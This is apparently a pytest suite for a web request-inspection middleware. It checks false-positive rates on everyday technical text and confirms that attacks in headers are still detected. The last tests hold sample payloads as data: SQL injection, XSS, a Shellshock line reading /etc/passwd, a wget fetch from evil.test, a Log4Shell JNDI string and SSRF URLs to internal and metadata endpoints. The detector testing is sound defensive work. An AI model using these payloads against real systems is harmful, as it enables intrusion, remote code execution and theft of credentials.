"""False positives on ordinary technical text (issue 12, item 5).

``data/everyday_technical.txt`` holds 243 sentences written for these tests:
prose with SQL words, shell command lines, SQL in docs, Windows and Unix paths,
math and code a developer chat app carries. Each is sent through a real app
(query parameter and JSON field, with a browser and with a ``curl`` User-Agent,
and a ``Referer`` naming the site on 127.0.0.1) at the default detection level;
fewer than 2 % of those requests may be blocked.
"""

from __future__ import annotations

from pathlib import Path

import httpx
import pytest
from fastapi import FastAPI
from pydantic import BaseModel

from pynomaly_security.detection import Inspector, RequestParts
from pynomaly_security.middleware.inspection import InputInspectionMiddleware
from pynomaly_security.settings import SecuritySettings

DATA = Path(__file__).parent / "data" / "everyday_technical.txt"
SENTENCES = [
    line for line in DATA.read_text(encoding="utf-8").splitlines() if line and line[0] != "#"
]
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
TOOLS = ["curl/8.0", "curl/7.88.1", "Wget/1.21", "Wget/1.21.4 (linux-gnu)", "HTTPie/3.2.2"]
MAX_BLOCK_RATE = 0.02


class Note(BaseModel):
    text: str


def _app() -> FastAPI:
    app = FastAPI()

    @app.get("/search")
    async def search(q: str) -> dict[str, str]:
        return {"q": q}

    @app.post("/notes")
    async def notes(note: Note) -> dict[str, str]:
        return {"text": note.text}

    settings = SecuritySettings(_env_file=None)  # type: ignore[call-arg]
    app.add_middleware(InputInspectionMiddleware, inspector=Inspector.from_settings(settings))
    return app


async def _blocked(client: httpx.AsyncClient, agent: str) -> list[str]:
    headers = {"User-Agent": agent, "Referer": "http://127.0.0.1:8011/"}
    blocked = []
    for text in SENTENCES:
        for response in (
            await client.get("/search", params={"q": text}, headers=headers),
            await client.post("/notes", json={"text": text}, headers=headers),
        ):
            # Either answer (no 4xx/5xx of another kind): the caller counts the 403s.
            assert response.status_code in (200, 403), (text, response.status_code)
            if response.status_code == 403:
                blocked.append(text)
    return blocked


def test_the_sentence_set_is_large_enough() -> None:
    assert len(SENTENCES) >= 200
    assert len(set(SENTENCES)) == len(SENTENCES)


@pytest.mark.anyio
@pytest.mark.parametrize("agent", [BROWSER, "curl/8.0"])
async def test_everyday_technical_text_is_rarely_blocked(agent: str) -> None:
    """Under 2 % of the sentences are blocked, in a query or a JSON field, whether
    the client is a browser or curl."""
    transport = httpx.ASGITransport(app=_app())
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
        blocked = await _blocked(client, agent)
    rate = len(blocked) / (2 * len(SENTENCES))
    assert rate < MAX_BLOCK_RATE, (rate, sorted(set(blocked)))


@pytest.mark.parametrize("agent", TOOLS)
def test_a_tool_user_agent_scores_nothing(agent: str) -> None:
    """A tool name in a User-Agent is not evidence of anything: score 0."""
    verdict = Inspector().inspect(RequestParts("GET", "/", b"", ((b"user-agent", agent.encode()),)))
    assert verdict.score == 0, verdict.findings


@pytest.mark.parametrize(
    "referer",
    [
        "http://127.0.0.1:8011/",
        "http://localhost:3000/dashboard?tab=2",
        "http://[::1]:8000/docs",
        "http://10.0.0.5/admin/users",
    ],
)
def test_a_referer_url_is_a_navigation_fact(referer: str) -> None:
    """A Referer naming an internal or loopback host is not SSRF: score 0."""
    parts = RequestParts("GET", "/", b"", ((b"referer", referer.encode()),))
    verdict = Inspector().inspect(parts)
    assert verdict.score == 0, verdict.findings


@pytest.mark.parametrize(
    ("name", "value", "family"),
    [
        ("referer", "http://127.0.0.1/?id=1' OR '1'='1", "sqli"),
        ("referer", "http://localhost/<script>alert(1)</script>", "xss"),
        ("user-agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'", "cmdi"),
        ("user-agent", "curl/8.0; wget http://evil.test/x -O /dev/shm/x", "cmdi"),
        ("user-agent", "sqlmap/1.8 (https://sqlmap.org)", "scanner"),
        ("user-agent", "${jndi:ldap://evil.test/a}", "code_injection"),
    ],
)
def test_attacks_in_these_headers_are_still_found(name: str, value: str, family: str) -> None:
    """Only the navigation URL and the product token lose their weight."""
    parts = RequestParts("GET", "/", b"", ((name.encode(), value.encode()),))
    verdict = Inspector().inspect(parts)
    assert family in verdict.families, verdict.findings


@pytest.mark.parametrize(
    "value", ["http://127.0.0.1:6379/", "http://169.254.169.254/latest/meta-data/"]
)
def test_an_internal_url_elsewhere_is_still_ssrf(value: str) -> None:
    """The same URL in a parameter is still scored as SSRF."""
    parts = RequestParts("GET", "/fetch", f"url={value}".encode())
    assert "ssrf" in Inspector().inspect(parts).families
